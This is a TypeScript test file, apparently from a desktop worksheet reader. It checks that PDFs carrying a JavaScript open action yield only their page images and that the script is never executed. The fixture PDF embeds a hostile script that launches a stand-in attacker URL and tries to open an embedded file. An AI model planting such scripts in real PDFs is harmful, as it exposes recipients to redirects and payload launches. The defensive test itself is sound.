/**
 * The hostile corpus (docs/SECURITY.md): "a PDF with scripts". A worksheet PDF can arrive by email carrying
 * JavaScript (an open action, a document-level script). The reader only ever takes the page
 * images out of a PDF; nothing in it is run, rendered by a PDF engine, or handed to the OS.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { decodeScan, jpegDimensions } from '../../../electron/core/ocr/decode-scan';

const photo = new Uint8Array(readFileSync(join(import.meta.dirname, '../../fixtures/scans/phone-photo.jpg')));

/** A PDF whose opening runs a script (if a viewer ran scripts), with or without a page image. */
async function pdfWithScript(withImage: boolean): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([612, 792]);
  if (withImage) {
    const image = await pdf.embedJpg(photo);
    page.drawImage(image, { x: 0, y: 0, width: 612, height: 792 });
  }
  const script = "app.launchURL('http://attacker.invalid/', true); this.exportDataObject({ cName: 'x', nLaunch: 2 });";
  const action = pdf.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(script) });
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(action));
  const names = pdf.context.obj({ JavaScript: pdf.context.obj({ Names: [PDFString.of('run'), action] }) });
  pdf.catalog.set(PDFName.of('Names'), names);
  return pdf.save({ useObjectStreams: false });
}

describe('a PDF that carries JavaScript', () => {
  it('gives its page image and nothing else: the script is data that is never run', async () => {
    const bytes = await pdfWithScript(true);
    expect(Buffer.from(bytes).toString('latin1')).toContain('/JavaScript');
    const result = await decodeScan(bytes, 'worksheet-with-script.pdf');
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.value).toHaveLength(1);
    const size = jpegDimensions(photo);
    expect(result.value[0]?.image.width).toBe(size?.width);
    expect(result.value[0]?.image.height).toBe(size?.height);
  });

  it('without a page image is refused in plain words, naming the file', async () => {
    const result = await decodeScan(await pdfWithScript(false), 'only-a-script.pdf');
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.error.code).toBe('NOT_AN_IMAGE');
    expect(result.error.message).toContain('only-a-script.pdf');
  });
});
